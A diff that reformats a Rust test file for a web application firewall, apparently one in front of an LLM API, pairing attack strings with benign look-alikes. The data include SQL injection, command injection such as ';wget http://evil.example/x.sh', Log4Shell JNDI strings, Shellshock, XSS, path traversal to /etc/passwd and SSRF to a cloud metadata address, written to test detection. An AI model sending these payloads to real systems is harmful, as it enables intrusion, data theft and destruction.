@@ -43,14 +43,34 @@ const QUERY_CASES: &[(u32, &str, &str)] = &[
     (930100, "../../../etc/hosts", "reports/2024/q1.pdf"),
     (930100, "..%252f..%252fetc%252fhosts", "100%25 done"),
     (930120, "/etc/passwd", "/api/users"),
-    (931100, "http://192.168.1.10/shell.txt", "https://example.com/callback"),
-    (931120, "http://evil.example/shell.txt?", "https://example.com/a?b=c"),
+    (
+        931100,
+        "http://192.168.1.10/shell.txt",
+        "https://example.com/callback",
+    ),
+    (
+        931120,
+        "http://evil.example/shell.txt?",
+        "https://example.com/a?b=c",
+    ),
     (932100, "x;cat /etc/hosts", "cats and dogs; a story"),
-    (932105, ";wget http://evil.example/x.sh", "wget is a download tool"),
+    (
+        932105,
+        ";wget http://evil.example/x.sh",
+        "wget is a download tool",
+    ),
     (932110, "x & cmd /c dir", "cmd is short for command"),
-    (932120, "Invoke-WebRequest http://x/a.ps1", "invoke the web request later"),
+    (
+        932120,
+        "Invoke-WebRequest http://x/a.ps1",
+        "invoke the web request later",
+    ),
     (932130, "$(id)", "price $5 (approx)"),
-    (932140, "for %G in (a b) do echo %G", "for each in the list do something"),
+    (
+        932140,
+        "for %G in (a b) do echo %G",
+        "for each in the list do something",
+    ),
     (932160, "x /bin/sh -c id", "bin collection"),
     (932170, "() { :; }; echo vulnerable", "(see above) {note}"),
     (932175, "alias x=whoami", "my alias is bob"),
@@ -66,8 +86,16 @@ const QUERY_CASES: &[(u32, &str, &str)] = &[
     (933140, "php://filter/resource=index", "php is a language"),
     (933150, "system('id')", "the system is down"),
     (933170, "O:8:\"stdClass\":0:{}", "O: 8 items"),
-    (934100, "require('child_process').exec('id')", "a child process"),
-    (934110, "http://169.254.169.254/latest/meta-data/", "http://example.com/latest"),
+    (
+        934100,
+        "require('child_process').exec('id')",
+        "a child process",
+    ),
+    (
+        934110,
+        "http://169.254.169.254/latest/meta-data/",
+        "http://example.com/latest",
+    ),
     (934130, "__proto__", "prototype"),
     (934180, "{{config.items()}}", "{{ name }}"),
     (941100, "<script>alert(1)</script>", "<b>bold</b>"),
@@ -76,16 +104,28 @@ const QUERY_CASES: &[(u32, &str, &str)] = &[
     (941390, "alert(1)", "alerting is fine"),
     (942100, "1 OR 1=1", "1 apple"),
     (942100, "admin' --", "O'Reilly"),
-    (942140, "information_schema.tables", "information about schemas"),
+    (
+        942140,
+        "information_schema.tables",
+        "information about schemas",
+    ),
     (942160, "sleep(5)", "sleep well"),
-    (942190, "1 UNION SELECT password FROM users", "union station"),
+    (
+        942190,
+        "1 UNION SELECT password FROM users",
+        "union station",
+    ),
     (942290, "[$ne]", "[new]"),
     (942350, "1; DROP TABLE users", "drop me a line"),
     (943100, "document.cookie=\"x=1\"", "cookie recipe"),
     (944100, "java.lang.Runtime", "java language runtime"),
     (944130, "java.io.FileInputStream", "file input stream"),
     (944150, "${jndi:ldap://evil.example/a}", "$5 {approx}"),
-    (944150, "${${lower:j}ndi:ldap://evil.example/a}", "lower the price"),
+    (
+        944150,
+        "${${lower:j}ndi:ldap://evil.example/a}",
+        "lower the price",
+    ),
 ];
 
 fn q(v: &str) -> String {
@@ -122,7 +162,9 @@ fn method_allow_list() {
     let fw = fw();
     assert!(rule_ids(&fw, &get("/").clone_with_method("PROPFIND")).contains(&911100));
     assert!(!fw.inspect(&get("/v1/models")).is_block());
-    assert!(!fw.inspect(&get("/").clone_with_method("OPTIONS")).is_block());
+    assert!(!fw
+        .inspect(&get("/").clone_with_method("OPTIONS"))
+        .is_block());
 }
 
 trait WithMethod {
@@ -144,7 +186,12 @@ fn scanner_user_agents() {
         .header("Accept", "*/*")
         .header("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)");
     assert!(rule_ids(&fw, &r).contains(&913100));
-    for ua in ["OpenAI/Python 1.54.3", "curl/8.5.0", "node-fetch", "python-httpx/0.27.0"] {
+    for ua in [
+        "OpenAI/Python 1.54.3",
+        "curl/8.5.0",
+        "node-fetch",
+        "python-httpx/0.27.0",
+    ] {
         let r = RequestView::new("GET", "/v1/models")
             .header("Host", "x")
             .header("Accept", "*/*")
@@ -180,13 +227,19 @@ fn protocol_rules() {
     // Disallowed content type.
     let r = post_form("/x", "a=b").header("Content-Type", "application/octet-stream");
     let mut r2 = r.clone();
-    r2.headers.retain(|(n, v)| !(n == "Content-Type" && v.as_slice() == b"application/x-www-form-urlencoded"));
+    r2.headers.retain(|(n, v)| {
+        !(n == "Content-Type" && v.as_slice() == b"application/x-www-form-urlencoded")
+    });
     assert!(rule_ids(&fw, &r2).contains(&920420));
     // Restricted header.
     assert!(rule_ids(&fw, &get("/").header("X-HTTP-Method-Override", "DELETE")).contains(&920450));
     // Negatives: an ordinary form post and an ordinary GET.
-    assert!(!fw.inspect(&post_form("/login", "user=alice&remember=1")).is_block());
-    assert!(!fw.inspect(&get("/v1/models?limit=20&after=model-1")).is_block());
+    assert!(!fw
+        .inspect(&post_form("/login", "user=alice&remember=1"))
+        .is_block());
+    assert!(!fw
+        .inspect(&get("/v1/models?limit=20&after=model-1"))
+        .is_block());
 }
 
 #[test]
@@ -210,11 +263,20 @@ fn secret_and_agent_config_probes() {
             panic!("{p} allowed");
         };
         assert!(
-            b.matches.iter().any(|m| matches!(m.category, Category::SecretProbe | Category::Lfi | Category::Protocol)),
+            b.matches.iter().any(|m| matches!(
+                m.category,
+                Category::SecretProbe | Category::Lfi | Category::Protocol
+            )),
             "{p}: {b:?}"
         );
     }
-    for p in ["/v1/models", "/environment", "/health", "/v1/chat/completions", "/docs/git-guide"] {
+    for p in [
+        "/v1/models",
+        "/environment",
+        "/health",
+        "/v1/chat/completions",
+        "/docs/git-guide",
+    ] {
         assert!(!fw.inspect(&get(p)).is_block(), "{p}");
     }
 }
@@ -259,11 +321,17 @@ fn incident_fields_are_complete_and_redacted() {
         assert!(!m.excerpt.contains("AAAABBBBCCCCDDDD"), "{}", m.excerpt);
     }
     // Secrets in sensitive headers are never echoed.
-    let r = get("/x").header("Authorization", "Bearer ${jndi:ldap://x/sk-proj-AAAABBBBCCCCDDDDEEEE}");
+    let r = get("/x").header(
+        "Authorization",
+        "Bearer ${jndi:ldap://x/sk-proj-AAAABBBBCCCCDDDDEEEE}",
+    );
     let Verdict::Block(b) = fw.inspect(&r) else {
         panic!("not blocked");
     };
-    assert!(b.matches.iter().all(|m| !m.excerpt.contains("AAAABBBB")), "{b:?}");
+    assert!(
+        b.matches.iter().all(|m| !m.excerpt.contains("AAAABBBB")),
+        "{b:?}"
+    );
 }
 
 #[test]
@@ -273,7 +341,9 @@ fn disabled_firewall_allows_everything_and_strict_mode_raises_paranoia() {
         ..FirewallConfig::default()
     })
     .expect("fw");
-    assert!(!off.inspect(&get("/?q=%3Cscript%3Ealert(1)%3C/script%3E")).is_block());
+    assert!(!off
+        .inspect(&get("/?q=%3Cscript%3Ealert(1)%3C/script%3E"))
+        .is_block());
     let strict = FirewallConfig {
         strict: true,
         ..FirewallConfig::default()
@@ -317,7 +387,9 @@ fn load_fixture(p: &Path) -> RequestView {
     }
     if let Some(b) = f.body {
         let body = serde_json::to_vec(&b).expect("json");
-        r = r.header("Content-Length", body.len().to_string()).body(body);
+        r = r
+            .header("Content-Length", body.len().to_string())
+            .body(body);
     }
     r
 }
@@ -333,7 +405,11 @@ fn benign_llm_suite_has_zero_blocks() {
     let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/firewall_benign");
     let mut n = 0;
     let mut blocked = Vec::new();
-    let mut paths: Vec<_> = std::fs::read_dir(&dir).expect("fixtures").flatten().map(|e| e.path()).collect();
+    let mut paths: Vec<_> = std::fs::read_dir(&dir)
+        .expect("fixtures")
+        .flatten()
+        .map(|e| e.path())
+        .collect();
     paths.sort();
     for p in paths {
         if p.extension().is_none_or(|e| e != "json") {
@@ -348,7 +424,11 @@ fn benign_llm_suite_has_zero_blocks() {
         }
     }
     assert!(n >= 12, "benign suite too small: {n}");
-    assert!(blocked.is_empty(), "benign LLM requests blocked:\n{}", blocked.join("\n"));
+    assert!(
+        blocked.is_empty(),
+        "benign LLM requests blocked:\n{}",
+        blocked.join("\n")
+    );
 }
 
 #[test]
@@ -365,22 +445,34 @@ fn llm_routes_validate_structure_but_not_content() {
     };
     // Attack-looking content is model input: allowed.
     assert!(!fw
-        .inspect(&chat(r#"{"model":"m","messages":[{"role":"user","content":"' OR 1=1 -- <script>"}]}"#))
+        .inspect(&chat(
+            r#"{"model":"m","messages":[{"role":"user","content":"' OR 1=1 -- <script>"}]}"#
+        ))
         .is_block());
     // Broken JSON, wrong types, non-object bodies: blocked.
     assert!(rule_ids(&fw, &chat(r#"{"model":"m","messages":[{"role":"user""#)).contains(&946100));
     assert!(rule_ids(&fw, &chat(r#"[1,2,3]"#)).contains(&946110));
     assert!(rule_ids(&fw, &chat(r#"{"model":42,"messages":[]}"#)).contains(&946120));
     assert!(rule_ids(&fw, &chat(r#"{"model":"m","messages":"hi"}"#)).contains(&946120));
-    assert!(rule_ids(&fw, &chat(r#"{"model":"m","messages":[],"stream":"yes"}"#)).contains(&946120));
-    let deep = format!("{{\"model\":\"m\",\"x\":{}{}}}", "[".repeat(100), "]".repeat(100));
+    assert!(
+        rule_ids(&fw, &chat(r#"{"model":"m","messages":[],"stream":"yes"}"#)).contains(&946120)
+    );
+    let deep = format!(
+        "{{\"model\":\"m\",\"x\":{}{}}}",
+        "[".repeat(100),
+        "]".repeat(100)
+    );
     assert!(fw.inspect(&chat(&deep)).is_block());
     // Non-model-input fields are still inspected.
     assert!(fw
-        .inspect(&chat(r#"{"model":"m' UNION SELECT password FROM users--","messages":[]}"#))
+        .inspect(&chat(
+            r#"{"model":"m' UNION SELECT password FROM users--","messages":[]}"#
+        ))
         .is_block());
     assert!(fw
-        .inspect(&chat(r#"{"model":"m","messages":[],"user":"${jndi:ldap://x/a}"}"#))
+        .inspect(&chat(
+            r#"{"model":"m","messages":[],"user":"${jndi:ldap://x/a}"}"#
+        ))
         .is_block());
     // The same content on a non-LLM route is inspected.
     let other = RequestView::new("POST", "/admin/notes")
@@ -398,15 +490,24 @@ fn llm_routes_validate_structure_but_not_content() {
 #[test]
 fn normaliser_undoes_evasions() {
     assert_eq!(normalize::canonical_text("%252e%252e%252f", false), "../");
-    assert_eq!(normalize::canonical_text("%u003Cscript%u003E", false), "<script>");
+    assert_eq!(
+        normalize::canonical_text("%u003Cscript%u003E", false),
+        "<script>"
+    );
     assert_eq!(normalize::canonical_text("%c0%ae%c0%ae/", false), "../");
     assert_eq!(normalize::canonical_text("&#x3c;&#60;&lt;", false), "<<<");
     assert_eq!(normalize::canonical_text("a%00b", false), "ab");
     assert_eq!(normalize::canonical_text("ＳＥＬＥＣＴ", false), "select");
     assert_eq!(normalize::canonical_text("a+b", true), "a b");
     assert_eq!(normalize::resolve_path("/a/./b/../..\\..\\etc"), "/../etc");
-    assert_eq!(normalize::sql_fold("union/**/select/*!50000 x*/"), "union select x ");
-    assert_eq!(normalize::cmd_fold("c'a't \"/etc/pa\"ss\\wd"), "cat /etc/passwd");
+    assert_eq!(
+        normalize::sql_fold("union/**/select/*!50000 x*/"),
+        "union select x "
+    );
+    assert_eq!(
+        normalize::cmd_fold("c'a't \"/etc/pa\"ss\\wd"),
+        "cat /etc/passwd"
+    );
     let n = Normalized::of("%2E%2E%5Cwindows", false);
     assert_eq!(n.path, "../windows");
 }
@@ -422,7 +523,11 @@ fn within(limit: Duration, f: impl FnOnce()) -> Duration {
 #[test]
 fn pathological_inputs_are_bounded() {
     let fw = fw();
-    let limit = if cfg!(debug_assertions) { Duration::from_secs(20) } else { Duration::from_secs(2) };
+    let limit = if cfg!(debug_assertions) {
+        Duration::from_secs(20)
+    } else {
+        Duration::from_secs(2)
+    };
     let mb = 1 << 20;
     let inputs: Vec<String> = vec![
         "%25".repeat(mb / 3),
